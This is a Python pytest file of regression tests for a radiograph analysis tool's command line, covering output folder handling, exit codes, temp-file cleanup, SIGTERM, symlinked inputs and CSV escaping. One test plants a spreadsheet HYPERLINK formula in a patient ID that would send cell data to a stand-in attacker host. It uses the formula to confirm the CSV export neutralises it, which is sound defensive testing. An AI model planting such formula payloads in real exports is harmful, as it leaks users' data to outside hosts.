"""``pneumonitor analyze`` on hostile headers and a hostile ``--out`` (issue 16): one row per input, nothing partial,
nothing from an earlier run passed off as this run's, no traceback, a non-zero exit when nothing was analysed."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time

import numpy as np
import pytest

from test_cli_analyze import make_checkpoints, run_main
from test_reading_safety import chest_like
from test_reading import make_dicom


@pytest.fixture(scope="module")
def checkpoints(tmp_path_factory):
    return make_checkpoints(tmp_path_factory.mktemp("weights"), heatmap_value=0.9)


def analyze(caplog, checkpoints, *args):
    dl, ls = checkpoints
    return run_main(caplog, "analyze", *args, "--dlnet", dl, "--lsnet", ls, "--device", "cpu", "--no-progress",
                    "--qc", "off")


def test_out_naming_a_file_is_refused_before_any_work(tmp_path, caplog, checkpoints):
    """Regression (issue 16, item 7): the whole analysis ran, then a traceback."""
    make_dicom(tmp_path / "a.dcm", chest_like())
    (tmp_path / "out").write_text("mine")
    code, log = analyze(caplog, checkpoints, tmp_path / "a.dcm", "--out", tmp_path / "out")
    assert code == 2 and f"--out {tmp_path / 'out'} exists and is not a folder" in log
    assert (tmp_path / "out").read_text() == "mine"


def test_formula_in_a_header_is_not_a_formula_in_results_csv(tmp_path, caplog, checkpoints):
    """Regression (issue 16, item 7): PatientID ``=HYPERLINK(...)`` landed verbatim in results.csv."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    make_dicom(tmp_path / "a.dcm", chest_like(), PatientID=formula)
    code, _ = analyze(caplog, checkpoints, tmp_path / "a.dcm", "--out", tmp_path / "out")
    assert code == 0
    with (tmp_path / "out" / "results.csv").open(newline="") as handle:
        row = next(csv.DictReader(handle))
    assert row["status"] == "ok" and row["patient_id"] == "'" + formula
    assert json.loads((tmp_path / "out" / "results.json").read_text())["results"][0]["patient_id"] == formula


def test_nothing_analysed_exits_1_with_a_row_per_input(tmp_path, caplog, checkpoints):
    """Regression (issue 16, item 7): a mistyped path exited 0."""
    code, log = analyze(caplog, checkpoints, tmp_path / "typo.dcm", "--out", tmp_path / "out")
    assert code == 1 and "no image could be analysed" in log
    rows = json.loads((tmp_path / "out" / "results.json").read_text())["results"]
    assert [(r["status"], r["reason"]) for r in rows] == [("skipped", f"{tmp_path / 'typo.dcm'} does not exist or is not a file")]


def test_reused_out_removes_partial_files_and_names_earlier_outputs(tmp_path, caplog, checkpoints):
    """Regression (issue 16, items 6-7): a killed run's hidden temp files stayed for ever, and overlays of an
    earlier run stayed beside the new ones without a word."""
    out = tmp_path / "out"
    (out / "masks").mkdir(parents=True)
    (out / "overlays").mkdir()
    partial = [out / ".results.csv.tmp", out / "masks" / ".x_lungs.png.tmp", out / "overlays" / ".x_overlay.png.tmp"]
    for path in partial:
        path.write_bytes(b"partial")
    (out / "overlays" / "old-1234_overlay.png").write_bytes(b"an earlier run's overlay")
    (out / "notes.tmp").write_text("not ours: no leading dot")
    make_dicom(tmp_path / "a.dcm", chest_like())
    code, log = analyze(caplog, checkpoints, tmp_path / "a.dcm", "--out", out)
    assert code == 0
    assert not any(p.exists() for p in partial) and (out / "notes.tmp").exists()
    assert "1 file(s) in" in log and "are from an earlier run and not in results.csv (e.g. old-1234_overlay.png)" in log
    assert (out / "overlays" / "old-1234_overlay.png").exists()  # named, never deleted


def test_sigterm_stops_cleanly(tmp_path, checkpoints):
    """Regression (issue 16, item 6): SIGTERM was not handled (and Ctrl-C printed a traceback)."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    for n in range(60):
        make_dicom(inputs / f"{n:02d}.dcm", chest_like((512, 512)))
    out = tmp_path / "out"
    dl, ls = checkpoints
    command = [sys.executable, "-m", "pneumonitor", "analyze", str(inputs), "--out", str(out), "--dlnet", str(dl),
               "--lsnet", str(ls), "--device", "cpu", "--no-progress", "--qc", "off", "--batch-size", "1"]
    proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            env={**os.environ, "OMP_NUM_THREADS": "1"})
    deadline = time.monotonic() + 120
    while not list((out / "masks").glob("*.png")) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    log = proc.communicate(timeout=120)[0]
    assert proc.returncode == 130, log[-3000:]
    assert "interrupted: results.csv/json not written" in log and "Traceback" not in log
    assert not [p for p in out.rglob(".*") if p.is_file()] and not (out / "results.csv").exists()


def test_inputs_through_links_and_empty_folders_each_get_one_row(tmp_path, caplog, checkpoints):
    """Regression (issue 16, item 7): files in a linked-in folder and an explicitly named empty folder were dropped
    without a row, and the ``image`` column showed a link's target instead of the path given (as Deploy keeps)."""
    from pneumonitor.reading import find_inputs

    inputs, elsewhere = tmp_path / "in", tmp_path / "elsewhere"
    (inputs / "sub").mkdir(parents=True)
    elsewhere.mkdir()
    make_dicom(inputs / "sub" / "a.dcm", chest_like())
    make_dicom(elsewhere / "b.dcm", chest_like())
    (inputs / "sub" / "loop").symlink_to(inputs, target_is_directory=True)
    (inputs / "linked").symlink_to(elsewhere, target_is_directory=True)
    (tmp_path / "given.dcm").symlink_to(inputs / "sub" / "a.dcm")
    (tmp_path / "empty").mkdir()
    named = [tmp_path / "given.dcm", inputs, tmp_path / "empty"]
    assert find_inputs(named) == [tmp_path / "given.dcm", inputs / "linked" / "b.dcm", tmp_path / "empty"]
    code, _ = analyze(caplog, checkpoints, *named, "--out", tmp_path / "out")
    assert code == 0
    rows = json.loads((tmp_path / "out" / "results.json").read_text())["results"]
    assert [(r["image"], r["status"]) for r in rows] == [
        (str(tmp_path / "given.dcm"), "ok"), (str(inputs / "linked" / "b.dcm"), "ok"), (str(tmp_path / "empty"), "skipped")]
    assert rows[2]["reason"] == f"folder {tmp_path / 'empty'} holds no radiograph file (.dcm, .png, .jpg, .nii, DICM files)"
